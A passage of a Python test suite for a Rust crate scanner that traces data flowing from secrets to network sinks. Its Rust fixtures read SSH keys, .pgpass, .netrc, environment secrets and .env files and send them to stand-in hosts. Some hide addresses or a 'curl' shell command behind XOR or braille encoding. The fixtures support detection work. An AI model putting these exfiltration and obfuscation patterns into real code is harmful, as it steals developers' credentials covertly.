"""Data flow from a source to a sink through a crate's own code (scan/dataflow/)."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cratewatch.scan.crate import scan_crate
from cratewatch.scan.dataflow import MAX_BOUNDARIES, MAX_FUNCTIONS, DataFlow, opaque, unit_flows
from cratewatch.scan.dataflow.facts import fixed_address
from cratewatch.scan.dataflow.hints import UnitText
from cratewatch.scan.dataflow.labels import grown
from cratewatch.scan.extract import CrateArchive

HOME = 'let home = std::path::PathBuf::from(std::env::var_os("HOME").unwrap());\n'


def flows(source: str, crate: str = "sample", **files: str) -> list[DataFlow]:
    units = {"src/lib.rs": source.encode()}
    units |= {f"src/{name}.rs": text.encode() for name, text in files.items()}
    return unit_flows(units, crate).flows


def sources(source: str, crate: str = "sample") -> list[tuple[str, ...]]:
    return [tuple(sorted(flow.sources)) for flow in flows(source, crate)]


def test_a_file_in_the_home_through_bindings_fields_and_calls_into_a_request() -> None:
    (flow,) = flows(
        "struct R { rows: Vec<String> }\n"
        "impl R {\n"
        "  fn collect(&mut self) {\n"
        f"    {HOME}"
        '    let text = std::fs::read_to_string(home.join("notes.txt")).unwrap();\n'
        "    for line in text.lines() { self.rows.push(line.to_owned()); }\n"
        "  }\n"
        '  fn flush(&self) { let body = self.rows.join("\\n"); post(&body); }\n'
        "}\n"
        'fn post(b: &str) { let _ = ureq::post("https://x.example").send_string(b); }\n'
    )
    assert (flow.function, flow.line, flow.sources, flow.hidden) == (
        "post",
        10,
        frozenset({"user-file"}),
        False,
    )
    assert flow.sink == "HTTP request send_string"


def test_a_buffer_filled_by_read_to_string_and_a_channel_to_a_socket() -> None:
    source = (
        "use std::io::{Read, Write};\n"
        "fn run() {\n"
        "  let (tx, rx) = std::sync::mpsc::channel();\n"
        "  std::thread::spawn(move || {\n"
        f"    {HOME}"
        '    let mut f = std::fs::File::open(home.join(".pgpass")).unwrap();\n'
        "    let mut buf = String::new();\n"
        "    f.read_to_string(&mut buf).unwrap();\n"
        "    tx.send(buf).unwrap();\n"
        "  });\n"
        '  let mut s = std::net::TcpStream::connect("198.51.100.7:6667").unwrap();\n'
        '  for line in rx.recv() { writeln!(s, "PRIVMSG #c :{line}").unwrap(); }\n'
        "}\n"
    )
    (flow,) = flows(source)
    assert (flow.sink, flow.sources) == ("socket write!", frozenset({"user-file"}))


def test_a_closure_bound_to_a_name_takes_the_arguments_it_is_called_with() -> None:
    """`let mut add = |name, body| out.extend(body)`: what each call passes in, the buffer
    the closure fills holds."""
    source = (
        "use std::io::Write;\n"
        "fn collect() -> Vec<u8> {\n"
        f"  {HOME}"
        "  let mut out = Vec::new();\n"
        "  let mut add = |name: String, body: Vec<u8>| {\n"
        "    out.extend_from_slice(name.as_bytes());\n"
        "    out.extend_from_slice(&body);\n"
        "  };\n"
        '  if let Ok(b) = std::fs::read(home.join(".netrc")) { add("netrc".into(), b); }\n'
        "  out\n"
        "}\n"
        "fn send(host: &str) {\n"
        "  let mut s = std::net::TcpStream::connect(host).unwrap();\n"
        "  let _ = s.write_all(&collect());\n"
        "}\n"
    )
    assert [(flow.function, flow.sources) for flow in flows(source)] == [
        ("send", frozenset({"user-file"}))
    ]
    unrelated = source.replace('add("netrc".into(), b)', "drop(b)")
    assert flows(unrelated) == []


def _xored(text: str) -> str:
    """A Rust byte slice of ``text`` with every byte XORed with 2."""
    return "&[" + ", ".join(str(ord(c) ^ 2) for c in text) + "]"


def test_the_names_a_let_decodes_inline_hold_what_they_say() -> None:
    """`let s = (0..N).filter_map(entry).collect()`: the interpreter decodes the address and
    the variables' names before the labels flow, so the values read by those names, sent
    to that address, are a flow of secrets gathered by hidden names."""
    source = (
        "use std::io::Write;\n"
        "const TABLE: [&[u8]; 2] = [\n"
        f"    {_xored('relay.example:4000')},\n"
        f"    {_xored('BOT_TOKEN,API_TOKEN')},\n"
        "];\n"
        "fn entry(n: usize) -> Option<String> {\n"
        "    TABLE.get(n).map(|w| w.iter().map(|b| (b ^ 0x02) as char).collect())\n"
        "}\n"
        "fn start() {\n"
        "    let s: Vec<String> = (0..TABLE.len()).filter_map(entry).collect();\n"
        "    let names = s[1].split(',');\n"
        "    let found: Vec<String> = names.filter_map(|k| std::env::var(k).ok()).collect();\n"
        "    let mut t = std::net::TcpStream::connect(s[0].as_str()).unwrap();\n"
        '    let _ = t.write_all(found.join(";").as_bytes());\n'
        "}\n"
    )
    sent = [flow for flow in flows(source) if flow.action == "send"]
    assert [(flow.sink, flow.sources, flow.hidden) for flow in sent] == [
        ("socket write_all", frozenset({"environment"}), True)
    ]


def test_a_let_making_text_of_what_a_function_that_takes_nothing_yields() -> None:
    # `String::from_utf8(classes::gaps().collect())`: bytes an iterator computes from a table
    # (the gaps between size classes), made text where they are bound
    address = "198.51.100.7:8125"
    sizes, total = [], 1000
    for c in address:
        total += ord(c) * 8
        sizes.append(total)
    source = (
        f"const SPILL: &[usize] = &[1000, {', '.join(map(str, sizes))}];\n"
        "fn gaps() -> impl Iterator<Item = u8> {\n"
        "    SPILL.windows(2).map(|w| ((w[1] - w[0]) / 8) as u8)\n"
        "}\n"
        "fn flush() {\n"
        "    let agent = String::from_utf8(gaps().collect()).unwrap_or_default();\n"
        '    let sock = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();\n'
        "    let host = hostname::get().unwrap();\n"
        "    let _ = sock.send_to(host.as_encoded_bytes(), agent.as_str());\n"
        "}\n"
    )
    sent = [(f.sink, f.sources, f.hidden) for f in flows(source) if f.action == "send"]
    assert sent == [("socket send_to", frozenset({"host-facts"}), True)]


def test_the_whole_environment_and_secrets_gathered_by_name() -> None:
    assert sources(
        "fn f() { let all: Vec<_> = std::env::vars().collect(); "
        'reqwest::blocking::Client::new().post("https://h.example").json(&all).send(); }'
    ) == [("environment",)]
    assert sources(
        'fn f() { for k in ["AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"] {\n'
        "  if let Ok(v) = std::env::var(k) { client().body(v); } } }"
    ) == [("environment",)]
    # a list of CI markers is checked, and one variable read by its literal name is an API
    # client's own key: neither is the environment
    assert not flows(
        'fn f() { for k in ["CI", "GITHUB_ACTIONS"] {\n'
        "  if let Ok(v) = std::env::var(k) { client().body(v); } }\n"
        '  let key = std::env::var("OPENAI_API_KEY").unwrap(); client().bearer_auth(key); }'
    )


def test_a_secret_named_after_the_crate_is_its_own_setting() -> None:
    """A helper that reads variables by name, given the crate's own token's name, sends
    that token where the crate talks to: no secrets gathered; given another program's
    secret's name, it gathers it."""
    helper = (
        "fn env(name: &str) -> String {{ std::env::var(name).unwrap_or_default() }}\n"
        'fn f() {{ let t = env("{name}"); client().bearer_auth(t); }}'
    )
    assert not flows(helper.format(name="ZED_WEBEX_TOKEN"), crate="zed-webex")
    assert sources(helper.format(name="ZED_WEBEX_TOKEN"), crate="zed-report") == [("environment",)]
    assert sources(helper.format(name="AWS_SECRET_ACCESS_KEY"), crate="zed-webex") == [
        ("environment",)
    ]


def test_a_file_named_as_private_keys_are_wherever_its_folder_comes_from() -> None:
    keys = (
        "fn keys(dir: &str) -> Vec<PathBuf> {\n"
        '  let mut out = Vec::new(); for n in ["id_ed25519", "id_rsa"] {\n'
        "    out.push(PathBuf::from(dir).join(n)); }\n"
        "  out }\n"
        "pub fn go(dir: &str) { let mut all = Vec::new();\n"
        "  for p in keys(dir) { if let Ok(b) = std::fs::read(&p) { all.extend(b); } }\n"
        '  ureq::post("https://x.example/m").send_bytes(&all); }'
    )
    (flow,) = flows(keys)
    assert flow.sources == {"private-key"} and flow.fixed
    # a public key is published by design
    assert not flows(keys.replace('"id_ed25519", "id_rsa"', '"id_ed25519.pub"'))


def test_a_tools_own_settings_and_state_stay_home() -> None:
    read = "let t = std::fs::read_to_string(home.join({path})).unwrap();\n"
    send = 'ureq::post("https://h.example").send_string(&t);\n'
    own = "fn f() {\n" + HOME + read.format(path='".config/taskboard/x.json"') + send + "}"
    assert not flows(own, crate="taskboard")
    assert flows(own, crate="other")
    # a file the crate writes itself (an install id) is its own state
    written = (
        "fn f() {\n" + HOME + 'let p = home.join("install-id");\n'
        "let t = std::fs::read_to_string(&p).unwrap();\n" + send + 'std::fs::write(&p, b"1");\n}'
    )
    assert not flows(written)
    # settings parsed from a file are not its contents
    parsed = (
        "fn f() {\n" + HOME + read.format(path='"x.toml"') + "let c: C = toml::from_str(&t)?;\n"
        "ureq::post(&c.server).send_string(&c.team);\n}"
    )
    assert not flows(parsed)


def test_data_is_followed_across_a_bounded_number_of_function_boundaries() -> None:
    def chain(hops: int) -> str:
        helpers = "".join(f"fn h{i}(d: String) {{ h{i + 1}(d); }}\n" for i in range(hops - 1))
        return (
            "fn start() {\n" + HOME + 'let d = std::fs::read_to_string(home.join("a")).unwrap();\n'
            "h0(d);\n}\n" + helpers + f"fn h{hops - 1}(d: String) {{ client().body(d); }}\n"
        )

    assert flows(chain(MAX_BOUNDARIES))
    assert not flows(chain(MAX_BOUNDARIES + 1))


def test_sql_decoded_at_run_time_is_a_hidden_query() -> None:
    source = (
        "const Q: [u8; 4] = [1, 2, 3, 4];\n"
        "fn dec(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x42) as char).collect() }\n"
        "fn f(client: &mut postgres::Client) {\n"
        "  client.batch_execute(&dec(&Q)).unwrap();\n"
        "  client.execute(&dec(&Q), &[]).unwrap();\n"
        '  client.batch_execute("VACUUM").unwrap();\n'
        "  let _ = sqlx::query(&dec(&Q));\n"
        "}\n"
    )
    assert sorted((f.action, f.sink) for f in flows(source)) == [
        ("query", "database query batch_execute"),
        ("query", "database query execute"),
        ("query", "sqlx::query"),
    ]
    # an HTTP client's `execute(request)` takes one argument: no query
    request = source.replace("client.execute(&dec(&Q), &[])", "client.execute(dec(&Q))")
    assert ("query", "database query execute") not in {(f.action, f.sink) for f in flows(request)}


KEY_TABLE = (
    "const T: &[u32] = &[0x1f8a_3c72, 0x22b4_9e01, 0x3c0d_77a5, 0x4e91_0c3b];\n"
    "fn material() -> Vec<u8> { T.iter().flat_map(|v| [(v >> 16) as u8, *v as u8]).collect() }\n"
)


def test_a_key_made_of_bytes_decoded_from_a_table_is_hidden() -> None:
    hmac = (
        KEY_TABLE + "fn f() { let k = material(); let _ = Hmac::<Sha256>::new_from_slice(&k); }\n"
    )
    assert [(f.action, f.sink, f.hidden) for f in flows(hmac)] == [
        ("trust", "Hmac::<Sha256>::new_from_slice", True)
    ]
    # in plain sight: a byte array, or what the caller gives
    plain = (
        "const K: [u8; 4] = [1, 2, 3, 4];\nfn f(k: &[u8]) { Hmac::<Sha256>::new_from_slice(&K); "
    )
    assert flows(plain + "Hmac::<Sha256>::new_from_slice(k); }\n") == []


HIDDEN_KEY = (
    "const U: [u8; 18] =\n"
    "  [46, 39, 37, 35, 33, 59, 111, 49, 43, 37, 44, 43, 44, 37, 111, 41, 39, 59];\n"
    "fn dec(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x42) as char).collect() }\n"
)


def test_a_variant_carries_its_payload_to_where_it_is_taken_apart() -> None:
    # the key is wrapped in an enum in one function and unwrapped by `match self` in a
    # method the wrapper is called on elsewhere
    variant = (
        HIDDEN_KEY + "enum Key { Hs(Vec<u8>), Es(Vec<u8>) }\n"
        "fn legacy() -> Key { Key::Hs(dec(&U).into_bytes()) }\n"
        "impl Key { fn check(&self) { match self {\n"
        "  Key::Hs(k) => { Hmac::<Sha256>::new_from_slice(k); }\n"
        "  Key::Es(p) => { UnparsedPublicKey::new(&ALG, p); }\n"
        "} } }\n"
    )
    assert [(f.sink, f.function) for f in flows(variant)] == [
        ("Hmac::<Sha256>::new_from_slice", "check")
    ]
    # a struct's field taken apart by a pattern
    fields = (
        HIDDEN_KEY + "struct Keys { secret: String }\n"
        "fn make() -> Keys { Keys { secret: dec(&U) } }\n"
        "fn check(keys: &Keys) {\n"
        "  let Keys { secret } = keys; Hmac::<Sha256>::new_from_slice(secret.as_bytes());\n"
        "}\n"
    )
    assert [f.function for f in flows(fields)] == ["check"]
    # the standard library's wrappers are everywhere: no payload crosses by their names
    wrapped = (
        HIDDEN_KEY + "fn make() -> Option<String> { Some(dec(&U)) }\n"
        "fn check(k: Option<String>) {\n"
        "  if let Some(k) = k { Hmac::<Sha256>::new_from_slice(k.as_bytes()); }\n"
        "}\n"
    )
    assert flows(wrapped) == []


def test_a_field_read_in_a_macros_arguments_is_the_field() -> None:
    # `format!("{}/api", self.base)`: the server the same settings name, or one the crate
    # fixes, decides what the key sent to it is
    source = (
        "struct Api { base: String, key: String }\n"
        "#[derive(Deserialize)] struct Cfg { server: String, apikey: String }\n"
        "fn local() -> Option<Api> {\n"
        f"  {HOME}"
        '  let text = std::fs::read_to_string(home.join(".config/tool/config.toml")).ok()?;\n'
        "  let cfg: Cfg = toml::from_str(&text).ok()?;\n"
        "  Some(Api { base: SERVER, key: cfg.apikey })\n"
        "}\n"
        "impl Api { fn get(&self) {\n"
        '  ureq::get(&format!("{}/api", self.base)).set("X-API-Key", &self.key).call();\n'
        "} }\n"
    )
    assert flows(source.replace("SERVER", "cfg.server")) == []  # a client's login
    fixed = source.replace("SERVER", '"https://collect.example.net".into()')
    assert [(f.sources, f.fixed) for f in flows(fixed)] == [(frozenset({"credential"}), True)]


def test_a_hidden_public_key_counts_beside_the_keys_a_crate_is_given() -> None:
    vendor = (
        KEY_TABLE
        + "fn vendor() -> Option<VerifyingKey> { VerifyingKey::from_bytes(&material()).ok() }\n"
    )
    # the only key, masked: a vendor's licence key kept from patching
    assert flows(vendor) == []
    given = (
        "fn theirs(k: &[u8]) -> Option<VerifyingKey> { VerifyingKey::from_sec1_bytes(k).ok() }\n"
    )
    assert [(f.action, f.function) for f in flows(vendor + given)] == [("trust", "vendor")]
    # a public key derived from a secret one is no key imported
    derived = KEY_TABLE + "fn f() { let _ = PublicKey::from_secret_scalar(&material()); }\n"
    assert flows(derived + given) == []


def test_a_hidden_encryption_recipient_is_a_hidden_key() -> None:
    # age encrypts every file to each recipient: one the crate hides reads them all
    hidden = (
        HIDDEN_KEY + "fn escrow() -> Option<x25519::Recipient> {\n"
        "  x25519::Recipient::from_str(&dec(&U)).ok()\n}\n"
    )
    given = (
        "fn member(s: &str) -> Option<x25519::Recipient> { x25519::Recipient::from_str(s).ok() }\n"
    )
    assert [(f.action, f.function, f.hidden) for f in flows(hidden + given)] == [
        ("trust", "escrow", True)
    ]


def test_a_javascript_module_fetched_and_declared_runs_downloaded_code() -> None:
    source = (
        "fn load(ctx: Ctx, name: &str) -> Module {\n"
        "  let src = ureq::get(name).call().unwrap().into_string().unwrap();\n"
        "  Module::declare(ctx, name, src).unwrap()\n}\n"
    )
    assert [(f.action, f.sink) for f in flows(source)] == [("download-run", "Module::declare")]


def test_a_call_reaches_a_type_s_function_only_by_that_type_s_path() -> None:
    # a downloaded game id handed to `thread::spawn`, and a response read through
    # `BufReader::new`, are not the path given to the crate's `Engine::spawn`
    source = (
        "impl Engine {\n"
        "  pub fn spawn(path: &str) { Command::new(path).spawn().unwrap(); }\n"
        "  pub fn new(r: Response) -> Engine { Engine }\n}\n"
        "fn run(engine: &str) {\n"
        "  let id = ureq::get(URL).call().unwrap().into_string().unwrap();\n"
        "  std::thread::spawn(move || play(&id));\n"
        "  let lines = BufReader::new(ureq::get(URL).call().unwrap().into_reader());\n"
        "  Engine::spawn(engine);\n}\n"
    )
    assert flows(source) == []
    typed = source.replace("Engine::spawn(engine)", "Engine::spawn(&id)")
    assert [(f.action, f.sink) for f in flows(typed)] == [("download-run", "Command::new")]
    named = source.replace("Engine::spawn(engine)", "Self::spawn(&id)")
    assert [(f.action, f.sink) for f in flows(named)] == [("download-run", "Command::new")]


def test_other_programs_environment_counts_where_the_crate_chose_the_address() -> None:
    scrape = (
        "fn scrape(url: &str) {\n"
        '  for e in std::fs::read_dir("/proc").unwrap().flatten() {\n'
        '    let env = std::fs::read(e.path().join("environ")).unwrap_or_default();\n'
        "    ureq::post(URL).send_bytes(&env);\n  }\n}\n"
    )
    fixed = 'const URL: &str = "http://198.51.100.7/push";\n' + scrape
    assert sources(fixed) == [("process-environment",)]
    # to a server the user names (a process monitor's own exporter): none
    assert sources(scrape.replace("post(URL)", "post(url)")) == []
    # the path written whole is the environment itself, wherever it goes
    whole = fixed.replace('e.path().join("environ")', '"/proc/self/environ"')
    assert sources(whole.replace("post(URL)", "post(url)")) == [("environment",)]


def test_a_project_s_env_file_counts_where_the_crate_chose_the_address() -> None:
    # sent to an address written in the crate, or its own service: collection
    fixed = (
        "fn f(dir: &Path) {\n"
        '  let env = std::fs::read_to_string(dir.join(".env.production")).unwrap();\n'
        '  ureq::post("https://collect.example.net/u").send_string(&env);\n}\n'
    )
    assert [tuple(sorted(f.sources)) for f in flows(fixed)] == [("project-secrets",)]
    own = fixed.replace("collect.example.net", "api.timesync.example")
    assert [f.fixed for f in flows(own, crate="timesync")] == [False]
    assert [tuple(sorted(f.sources)) for f in flows(own, crate="timesync")] == [
        ("project-secrets",)
    ]
    # to the server a variable names, or filling requests the project's files wrote: a
    # secrets manager's sync, a request runner
    named = fixed.replace('"https://collect.example.net/u"', '&std::env::var("VAULT_ADDR")?')
    assert flows(named) == []
    runner = (
        "fn run(dir: &Path) {\n"
        '  let env = std::fs::read_to_string(dir.join(".env")).unwrap();\n'
        '  let req = std::fs::read_to_string(dir.join("users.req")).unwrap();\n'
        '  let url = req.replace("{{k}}", &env);\n'
        '  ureq::get(&url).set("Authorization", &env).call().unwrap();\n}\n'
    )
    assert flows(runner) == []


def test_a_name_looked_up_under_a_domain_the_crate_writes_out_sends_what_it_holds() -> None:
    source = (
        "fn f() {\n"
        '  let env = std::fs::read(".env").unwrap();\n'
        '  let hex: String = env.iter().map(|b| format!("{b:02x}")).collect();\n'
        '  let name = format!("{hex}.probe.example:443");\n'
        "  let _ = name.to_socket_addrs();\n}\n"
    )
    assert [(f.sink, f.fixed) for f in flows(source)] == [("DNS lookup", True)]
    assert flows(source.replace(".probe.example", ".localhost")) == []
    looked_up = source.replace("name.to_socket_addrs()", "tokio::net::lookup_host(&name)")
    assert [f.sink for f in flows(looked_up)] == ["DNS lookup"]


def test_a_database_connection_to_a_hidden_address_reaches_it() -> None:
    source = (
        "const U: [u8; 4] = [1, 2, 3, 4];\n"
        "fn dec(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x42) as char).collect() }\n"
        "fn f() {\n"
        "  let opts = mysql::Opts::from_url(&dec(&U)).unwrap();\n"
        "  let _conn = mysql::Conn::new(opts);\n"
        "}\n"
    )
    assert [(f.action, f.sink) for f in flows(source)] == [("contact", "Conn::new")]


def test_a_curl_handle_given_a_hidden_address_reaches_it() -> None:
    source = (
        "const U: [u8; 4] = [1, 2, 3, 4];\n"
        "fn dec(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x42) as char).collect() }\n"
        "fn f(items: &str) -> Result<(), curl::Error> {\n"
        "  let mut easy = curl::easy::Easy::new();\n"
        "  easy.url(&dec(&U))?;\n"
        "  easy.post_fields_copy(items.as_bytes())?;\n"
        "  easy.perform()\n"
        "}\n"
    )
    assert [(f.action, f.sink) for f in flows(source)] == [("contact", "url")]
    # the address written out: where it goes is in plain sight
    assert flows(source.replace("&dec(&U)", '"https://api.example/v1"')) == []


def test_a_decoder_given_a_module_s_constant_among_a_macro_s_tokens_is_run() -> None:
    source = (
        "mod table { pub const U: [u8; 24] = [42, 54, 54, 50, 49, 120, 109, 109, 42, 45, 45, 41,"
        " 49, 108, 39, 58, 35, 47, 50, 46, 39, 109, 52, 115]; }\n"
        "fn dec(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x42) as char).collect() }\n"
        "fn f() -> serde_json::Value {\n"
        '  serde_json::json!({ "url": dec(&table::U) })\n'
        "}\n"
    )
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    assert [name.text for name in found.revealed] == ["https://hooks.example/v1"]


def test_a_decoder_imported_under_another_name_is_run_where_the_alias_is_called() -> None:
    table = (
        "pub const U: [u8; 24] = [42, 54, 54, 50, 49, 120, 109, 109, 42, 45, 45, 41,"
        " 49, 108, 39, 58, 35, 47, 50, 46, 39, 109, 52, 115];\n"
        "pub fn label(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x42) as char).collect() }\n"
    )
    source = (
        "mod table;\n"
        "use crate::table::{label as p, U};\n"
        "fn f(body: String) { let _ = ureq::post(&p(&U)).send_string(&body); }\n"
    )
    found = unit_flows({"src/lib.rs": source.encode(), "src/table.rs": table.encode()}, "s")
    assert [name.text for name in found.revealed] == ["https://hooks.example/v1"]
    assert ("src/lib.rs", "request URL", "contact", True) in [
        (f.file, f.sink, f.action, f.hidden) for f in found.flows
    ]


def test_a_table_decoder_given_a_number_under_another_name_is_run() -> None:
    table = (
        "pub const T: &[&[u8]] = &[&[42, 54, 54, 50, 49, 120, 109, 109, 42, 45, 45, 41,"
        " 49, 108, 39, 58, 35, 47, 50, 46, 39, 109, 52, 115]];\n"
        "pub fn entry(i: usize) -> String { T[i].iter().map(|b| (b ^ 0x42) as char).collect() }\n"
    )
    source = (
        "mod table;\n"
        "use crate::table::entry as e;\n"
        "fn f(body: String) { let _ = ureq::post(&e(0)).send_string(&body); }\n"
    )
    found = unit_flows({"src/lib.rs": source.encode(), "src/table.rs": table.encode()}, "s")
    assert [name.text for name in found.revealed] == ["https://hooks.example/v1"]


def test_an_alias_given_two_meanings_and_casts_in_a_list_are_no_aliases() -> None:
    text = UnitText(
        {
            "src/a.rs": b"use crate::x::{one as p, two};\n"
            b"fn g(a: u32, b: u64) { h((a, b as u8, 1)); }",
            "src/b.rs": b"use crate::y::other as p;\nuse crate::z::three as q;\n",
        },
        None,
    )
    assert text.aliases() == {"q": "three"}


def test_names_decoded_from_constants_are_hidden() -> None:
    source = (
        "const P: [u8; 4] = [1, 2, 3, 4];\n"
        "fn dec(d: &[u8]) -> String { d.iter().map(|b| (b ^ 0x42) as char).collect() }\n"
        "fn fill(d: &[u8], out: &mut [u8]) {\n"
        "  for (i, b) in d.iter().enumerate() { out[i] = b ^ 7; }\n}\n"
        "fn f() {\n"
        "  let mut name = [0u8; 8]; fill(&P, &mut name);\n"
        "  let t = std::fs::read(std::path::Path::new(&dec(&P)).join(&name)).unwrap();\n"
        "  let mut s = std::net::UdpSocket::bind(dec(&P)).unwrap();\n"
        "  let _ = s.send(&t);\n"
        "}\n"
    )
    # a file whose name is hidden is a source of its own; the socket's address is hidden
    assert {(f.action, tuple(f.sources)) for f in flows(source)} == {
        ("send", ("hidden-file",)),
        ("contact", ()),
    }
    hidden = source.replace("std::path::Path::new(&dec(&P))", "dirs::home_dir().unwrap()")
    (flow,) = [flow for flow in flows(hidden) if flow.action == "send"]
    assert flow.hidden and flow.sink == "socket send"


def test_writes_to_files_and_test_code_are_not_flows() -> None:
    body = HOME + 'let t = std::fs::read_to_string(home.join("a")).unwrap();\n'
    to_file = "fn f() {\n" + body + 'let mut o = std::fs::File::create("b").unwrap();\n'
    assert not flows(to_file + "o.write_all(t.as_bytes());\n}")
    in_tests = (
        "#[cfg(test)]\nmod tests {\n  #[test]\n  fn f() {\n" + body + "client().body(t);\n}\n}"
    )
    assert not flows(in_tests)
    assert flows(in_tests.replace("#[cfg(test)]\n", "").replace("#[test]\n", ""))


def test_the_clipboard_handed_to_a_network_tool() -> None:
    assert sources(
        "fn f() { let t = ctx.get_contents().unwrap();\n"
        '  std::process::Command::new("curl").arg("-d").arg(&t).spawn(); }'
    ) == [("clipboard",)]


def test_flows_cross_files_of_one_unit() -> None:
    (flow,) = flows(
        "mod net;\nfn f() {\n" + HOME + 'let t = std::fs::read(home.join("k")).unwrap();\n'
        "net::ship(t);\n}",
        net='pub fn ship(t: Vec<u8>) { ureq::post("https://h.example").send_bytes(&t); }',
    )
    assert flow.file == "src/net.rs"


@pytest.mark.parametrize("depth", [50, 5_000])
def test_hostile_nesting_and_size_are_bounded(depth: int) -> None:
    nested = "(" * depth + "x" + ")" * depth
    assert flows(f"fn f() {{ let y = {nested}; client().body(y); }}") == []
    many = "".join(f"fn f{i}() {{}}\n" for i in range(MAX_FUNCTIONS + 1))
    assert flows(many + "fn g() { " + HOME + "client().body(std::fs::read(home)); }") == []


class _Recording:
    """A store that keeps nothing and records which files' facts were asked for."""

    def __init__(self) -> None:
        self.asked: set[str] = set()

    def kept(self, path: str, data: bytes, kind: str) -> None:
        if kind.startswith("data flow facts"):
            self.asked.add(path)

    def keep(self, path: str, data: bytes, kind: str, value: object) -> None:
        pass


def _program(files: int, per_file: int) -> dict[str, bytes]:
    """A unit of ``files`` modules of ``per_file`` functions each, none of them a source."""
    return {
        f"src/m{i}.rs": "".join(f"fn f{i}_{j}() {{}}\n" for j in range(per_file)).encode()
        for i in range(files)
    }


def test_a_large_program_is_followed_only_in_the_files_that_may_start_a_flow() -> None:
    sending = "fn g() { " + HOME + "client().body(std::fs::read(home)); }"
    # more functions than a unit's bound, one file with a source among them
    units = _program(11, MAX_FUNCTIONS // 10) | {"src/lib.rs": sending.encode()}
    (flow,) = unit_flows(units, "sample").flows
    assert flow.function == "g"
    # with no file that may start a flow, no more files are read than it takes to learn
    # that the program is larger than the bound
    store = _Recording()
    fetching = b"fn update(u: &str) { let b = reqwest::blocking::get(u); Command::new(b).spawn(); }"
    large = _program(40, MAX_FUNCTIONS // 10) | {"src/lib.rs": fetching}
    assert unit_flows(large, "sample", store=store).flows == []
    assert 10 < len(store.asked) < 20


SAMPLE = Path(__file__).resolve().parent / "samples" / "threat-dataflow-exfiltration"
MANIFEST = b'[package]\nname = "sample"\nversion = "0.1.0"\n'


def verdict(files: dict[str, bytes]) -> str:
    return scan_crate(CrateArchive("sample", {"Cargo.toml": MANIFEST} | files, ()), "x").verdict


def test_the_verdict_weighs_where_the_flow_runs() -> None:
    fixed = (SAMPLE / "positive.rs").read_bytes()
    # sent where the user says (not to an address of the crate's): one tactic
    code = fixed.replace(b'"https://metrics.example.net/v1/ingest"', b"&std::env::args().nth(1)?")
    assert code != fixed
    assert verdict({"src/lib.rs": fixed}) == "malicious"  # collected for the crate's author
    assert verdict({"src/lib.rs": code}) == "suspicious"  # one tactic, in library code
    assert verdict({"build.rs": code + b"\nfn main() {}\n"}) == "malicious"  # while building
    dropped = code + b"\nimpl Drop for Reporter { fn drop(&mut self) { self.flush(); } }\n"
    assert verdict({"src/lib.rs": dropped}) == "malicious"  # nobody calls it for that


def test_an_example_decodes_names_with_the_librarys_decoder() -> None:
    """``cargo run --example quickstart`` runs what its users are told to run: a payload
    there writes and runs names the library's own decoder makes of the library's
    constants. A test given the same constants is a fixture's check."""
    library = (
        'pub const NAME: &str = "⠓⠊⠙⠙⠑⠝";\n'
        "pub fn row(cells: &str) -> String {\n"
        "  cells.chars().map(|c| (c as u32).wrapping_sub(0x2800) as u8 as char).collect()\n}\n"
    ).encode()
    example = (
        b"fn main() {\n"
        b'  let home = std::path::PathBuf::from(std::env::var_os("HOME").unwrap());\n'
        b'  std::fs::write(home.join(sample::row(sample::NAME)), "x").ok();\n}\n'
    )
    files = {"src/lib.rs": library, "src/other.rs": b"pub fn other() {}\n"}
    assert verdict(files | {"examples/quickstart.rs": example}) == "malicious"
    assert verdict(files | {"tests/fixtures.rs": example}) == "clean"


def test_hidden_names_written_to_and_run() -> None:
    source = (
        'const NAME: &str = "⠓⠊⠙⠙⠑⠝";\n'
        "fn row(cells: &str) -> String {\n"
        "  cells.chars().map(|c| (c as u32).wrapping_sub(0x2800) as u8 as char).collect()\n}\n"
        "fn plant(home: &std::path::Path) {\n"
        "  let target = home.join(row(NAME));\n"
        '  std::fs::write(&target, "x").ok();\n'
        "  std::process::Command::new(row(NAME)).status().ok();\n}\n"
    )
    assert [(f.action, f.hidden, f.line) for f in flows(source)] == [
        ("write", True, 7),
        ("run", True, 8),
    ]
    # the same names written as they are: nothing hidden, no flow
    readable = source.replace("row(NAME)", '"startup.sh"')
    assert flows(readable) == []


def test_variables_that_only_hold_constants_given_to_a_decoder_and_a_shell_argument_list() -> None:
    """A loop over constant tables hands each to a decoder through a variable; the text is
    run by a host's runner given a shell's argument list (a terminal plugin's
    ``run_command``). Both constants are decoded, each in its own run."""

    def braille(text: str) -> str:
        return "".join(chr(0x2800 + ord(c)) for c in text)

    source = (
        f'const A: [&str; 2] = ["{braille("curl -s ")}", "{braille("x.example")}"];\n'
        f'const B: [&str; 1] = ["{braille("uname -a")}"];\n'
        "fn row(cells: &[&str]) -> String {\n"
        "  cells.concat().chars().map(|c| ((c as u32) - 0x2800) as u8 as char).collect()\n}\n"
        "fn tick() {\n"
        '  for (kind, table) in [("a", &A[..]), ("b", &B[..])] {\n'
        "    let script = fixtures::row(table);\n"
        '    host::run_command(&["sh", "-c", &script], kind);\n'
        "  }\n}\n"
    )
    found = unit_flows({"src/lib.rs": source.encode()}, "sample")
    (flow,) = found.flows
    assert (flow.action, flow.hidden, flow.sink) == ("run", True, "host::run_command")
    assert {r.text for r in found.revealed} == {"curl -s x.example", "uname -a"}
    # the variable also holds what the caller gives: no longer only constants
    given = source.replace("fn tick() {", "fn tick(table: &[&str]) {")
    assert unit_flows({"src/lib.rs": given.encode()}, "sample").flows == []


def test_a_parse_function_of_the_crates_own_module_is_followed() -> None:
    """``fingerprint::parse(REFERENCE)`` is the crate's decoder, not a library's parser of
    settings: the address it decodes is hidden."""
    source = (
        "mod fingerprint {\n"
        '  pub const REFERENCE: &str = "⠓⠊⠙⠙⠑⠝⠓⠊⠙";\n'
        "  pub fn parse(s: &str) -> Vec<u8> {\n"
        "    s.chars().map(|c| ((c as u32) - 0x2800) as u8).collect()\n  }\n}\n"
        "fn announce(job: &[u8]) {\n"
